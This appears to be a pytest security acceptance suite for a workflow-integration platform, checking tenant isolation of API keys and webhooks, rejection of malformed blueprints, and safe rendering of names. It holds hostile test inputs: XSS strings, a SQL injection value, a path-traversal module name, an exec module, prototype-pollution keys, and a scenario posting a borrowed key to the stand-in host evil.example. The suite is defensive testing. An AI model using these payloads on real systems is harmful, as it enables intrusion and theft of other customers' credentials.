"""Attacks by those who write templates, and by those who answer a wizard (E33 and part J), through nginx."""

import contextlib
import json
import re
import uuid
from pathlib import Path

import psycopg
import pytest

from support.blueprints import blueprint, module, returns
from support.integrator import API

ROOT = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.requires_server("postgresql-15", "nginx"), pytest.mark.timeout(300)]
ORDERS = json.loads((ROOT / "tests" / "acceptance" / "orders.json").read_text())
KEY = {"key": "key-of-the-victim-0815", "placement": "header", "name": "X-Api-Key"}
MARKUP = ("<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "{{constructor.constructor('x')()}}",
          "javascript:alert(1)", "'\"><svg/onload=alert(1)>", "\u202e<b>", "<!--", "]]>")  # fmt: skip


@pytest.fixture(scope="module")
def orders(scene):
    """The template with a key: published by the attacker's organization and by the victim's."""
    return {who.organization_id: who.publish(ORDERS) for who in (scene.acme, scene.rival)}


@pytest.fixture(scope="module")
def foreign(scene, orders):
    """A key of the victim's customer, one of a neighbouring team, and a hook of the victim."""
    keys = []
    for who in (scene.rival, scene.acme):
        wizard = who.customer().begin(orders[who.organization_id])
        step, field = field_of(wizard)
        keys.append(wizard.create(step, field, "Shop", KEY))
    customer = scene.rival.customer()
    connected = customer.connect(
        scene.rival.publish(blueprint(webhook(None), returns(2))), {}, scenario={"name": "x", "enable": True}
    )
    with psycopg.connect(scene.installation.shard_dsn) as connection:
        row = connection.execute("SELECT hook_id FROM shard.scenarios WHERE id = %s", (connected.id,)).fetchone()
    assert row is not None
    return {"keys": keys, "hook": row[0], "connected": connected}


def webhook(hook):
    return module(1, "gateway:CustomWebHook", parameters={"hook": hook, "maxResults": 1})


def field_of(wizard):
    """Go to the step that asks for a key; return it with the field."""
    wizard.start()
    for step in wizard.state()["steps"]:
        for field in step["fields"]:
            if field["component"] is not None and field["component"]["kind"] != "hook":
                return step["id"], field["uuid"]
    raise AssertionError(wizard.state())


def test_e33_a_wizard_takes_no_key_of_somebody_else(scene, orders, foreign):
    wizard = scene.acme.customer().begin(orders[scene.acme.organization_id])
    step, field = field_of(wizard)
    [key, neighbour] = foreign["keys"]
    for chosen in (key, neighbour, foreign["hook"], 2**53 - 1, -1, 0, True, str(key), [key]):
        values = {field: chosen, **dict.fromkeys(others(wizard, step, field), "https://evil.example/")}
        with scene.leaving():
            reply = scene.attack(
                "POST",
                f"/flow-api/{wizard.flow_id}/steps/{step}",
                headers={"Flow-Secret": wizard.secret},
                json_body={"values": values},
            )
        assert reply.status in {400, 422}, reply
        assert field in reply.json()["fields"]
        assert KEY["key"].encode() not in reply.body


def others(wizard, step_id, field):
    """The other fields of a step that are answered with an address."""
    [step] = [step for step in wizard.state()["steps"] if step["id"] == step_id]
    return [one["uuid"] for one in step["fields"] if one["uuid"] != field and one["component"] is None]


def test_e33_a_flow_is_given_no_key_of_somebody_else_beforehand(scene, orders, foreign):
    """What the integrator fills in is checked like what a customer says: at the end no scenario has the key."""
    customer = scene.acme.customer()
    probe = customer.begin(orders[scene.acme.organization_id])
    _, field = field_of(probe)
    for kind in ("hard", "soft"):
        body = {"prefill": {"hard": {}, "soft": {}} | {kind: {field: foreign["keys"][0]}}}
        reply = scene.attack(
            "POST",
            f"{API}/integrations/init/{orders[scene.acme.organization_id]}",
            headers={"Authorization": f"Bearer {scene.acme.token(customer.sub)}"},
            json_body=body,
        )
        if reply.status != 200:
            assert reply.status in {400, 404, 422}, reply
            continue
        wizard = type(probe).at(reply.json()["publicUrl"])
        with contextlib.suppress(AssertionError):
            # It may come to its end or be refused on the way: what counts is what was stored.
            wizard.walk({"URL": "https://evil.example/"})
    with psycopg.connect(scene.installation.shard_dsn) as connection:
        row = connection.execute(
            "SELECT count(*) FROM shard.blueprints WHERE organization_id = %s AND blueprint::text LIKE %s",
            (scene.acme.organization_id, f'%"auth": {foreign["keys"][0]}%'),
        ).fetchone()
    assert row == (0,)


def test_e33_j06_a_blueprint_with_somebody_else_s_key_runs_without_it(scene, foreign):
    """A scenario may name any number; what opens a key asks whose it is."""
    for key in foreign["keys"][:1]:
        flow = (
            webhook(None),
            module(
                2,
                "http:ActionSendDataAPIKeyAuth",
                {
                    "url": "https://evil.example/",
                    "method": "post",
                    "bodyType": "raw",
                    "contentType": "text/plain",
                    "data": "x",
                },
                parameters={"auth": key, "handleErrors": True},
                onerror=[module(3, "gateway:WebhookRespond", {"status": "200", "body": "{{2.error.message}}"})],
            ),
        )
        made = scene.acme.administrator().post("/scenarios", {"blueprint": blueprint(*flow), "name": "Borrowed"})
        scene.acme.administrator().post(f"/scenarios/{made['scenario']['id']}/activate")
        reply = scene.attack("POST", made["hookUrl"].removeprefix(scene.url), json_body={})
        assert reply.status == 200, reply
        assert b"evil.example" not in reply.body
        assert re.search(rb"connection|key|credential", reply.body, re.IGNORECASE), reply
        assert KEY["key"].encode() not in reply.body


def test_j06_a_blueprint_that_names_a_foreign_hook_gets_one_of_its_own(scene, foreign):
    made = scene.acme.administrator().post("/scenarios", {"blueprint": blueprint(webhook(foreign["hook"]), returns(2))})
    assert made["hookUrl"] != foreign["connected"].hook_url
    before = foreign["connected"].logs()
    scene.acme.administrator().post(f"/scenarios/{made['scenario']['id']}/activate")
    assert scene.attack("POST", made["hookUrl"].removeprefix(scene.url), json_body={}).status == 200
    assert foreign["connected"].logs() == before
    assert foreign["connected"].call_hook({}).status == 200


def nested(depth):
    flow = [returns(1)]
    for number in range(2, depth):
        flow = [{"id": number, "module": "builtin:BasicRouter", "version": 1, "routes": [{"flow": flow}]}]
    return {"name": "x", "flow": flow, "metadata": {"version": 1}}


IMPORTS = {
    "ten thousand modules": {"name": "x", "flow": [returns(n) for n in range(1, 10_001)], "metadata": {"version": 1}},
    "a hundred routers in each other": nested(100),
    "two modules of one number": blueprint(returns(1), returns(1)),
    "a module of no app": blueprint(module(1, "evil:Exec", {"command": "id"})),
    "a module that is a path": blueprint(module(1, "../../etc/passwd", {})),
    "a module of the language": blueprint(module(1, "builtins:eval", {"x": "1"})),
    "a version to come": blueprint(returns(1)) | {"metadata": {"version": 99}},
    "a flow that is text": {"name": "x", "flow": "x", "metadata": {"version": 1}},
    "a flow of nothing": {"name": "x", "flow": [None], "metadata": {"version": 1}},
    "no flow": {"name": "x"},
    "a number that is text": {"name": "x", "flow": [returns(1) | {"id": "1; DROP TABLE x"}]},
    "a number below zero": {"name": "x", "flow": [returns(1) | {"id": -1}]},
    "a name of a megabyte": blueprint(returns(1)) | {"name": "x" * 1_000_000},
    "members of the language": blueprint(returns(1)) | {"__proto__": {"admin": True}, "__class__": "x"},
}


@pytest.mark.parametrize("kind", IMPORTS)
@pytest.mark.parametrize("path", ["/templates", "/scenarios"])
def test_j06_a_blueprint_that_cannot_run_is_refused_or_never_goes_live(scene, kind, path):
    headers = {"Authorization": f"Bearer {scene.acme.token('*')}"}
    reply = scene.attack("POST", API + path, headers=headers, json_body={"blueprint": IMPORTS[kind]})
    if reply.status != 200:
        assert reply.status in {400, 413, 422}, reply
        return
    made = reply.json()
    live = (
        f"/templates/{made['id']}/publish" if path == "/templates" else f"/scenarios/{made['scenario']['id']}/activate"
    )
    headers = {"Authorization": f"Bearer {scene.acme.token('*')}"}
    reply = scene.attack("POST", API + live, headers=headers, json_body={})
    # What nobody reads does no harm, and of a long name only the beginning is kept.
    harmless = {"members of the language", "a version to come", "a name of a megabyte"}
    assert reply.status in {400, 409, 422} or kind in harmless, reply


@pytest.mark.parametrize("text", MARKUP)
def test_j01_markup_in_a_name_is_only_ever_told_as_json(scene, text):
    """A template, a customer and a scenario of that name: no page holds it, no answer could be taken for one."""
    version = scene.acme.publish(blueprint(returns(1)) | {"name": text})
    customer = scene.acme.customer(f"{text}{uuid.uuid4()}")
    connected = customer.connect(version, {}, scenario={"name": text, "enable": True})
    flow = customer.begin(version)
    page = scene.attack("GET", f"/flow/{flow.flow_id}")
    assert text not in page.body.decode()
    policy = page.headers["content-security-policy"]
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy
    for path, headers in (
        (f"/flow-api/{flow.flow_id}", {"Flow-Secret": flow.secret}),
        (f"{API}/integrations", {"Authorization": f"Bearer {scene.acme.token(customer.sub)}"}),
        (f"{API}/scenarios/{connected.id}", {"Authorization": f"Bearer {scene.acme.token(customer.sub)}"}),
        (f"{API}/scenarios/{connected.id}", {"Authorization": f"Bearer {scene.acme.token(text)}"}),
    ):
        reply = scene.attack("GET", path, headers=headers)
        assert reply.headers["content-type"].startswith("application/json")
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in reply.headers["content-security-policy"]


def test_j01_j02_no_page_puts_text_into_itself_as_markup():
    """React and the widget write text as text, unless the code asks for markup in one of these ways."""
    ways = re.compile(
        r"dangerouslySetInnerHTML|\.(?:inner|outer)HTML\s*\+?=|insertAdjacentHTML|document\.write|\beval\("
        r"|new Function\(|createContextualFragment|\bsrcdoc\b"
    )
    sources = [
        path
        for path in (ROOT / "web").rglob("*.ts*")
        if not {"node_modules", "dist", "tests"} & set(path.relative_to(ROOT).parts)
    ]
    assert len(sources) > 20
    found = [f"{path.relative_to(ROOT)}: {way}" for path in sources for way in ways.findall(path.read_text())]
    assert found == []
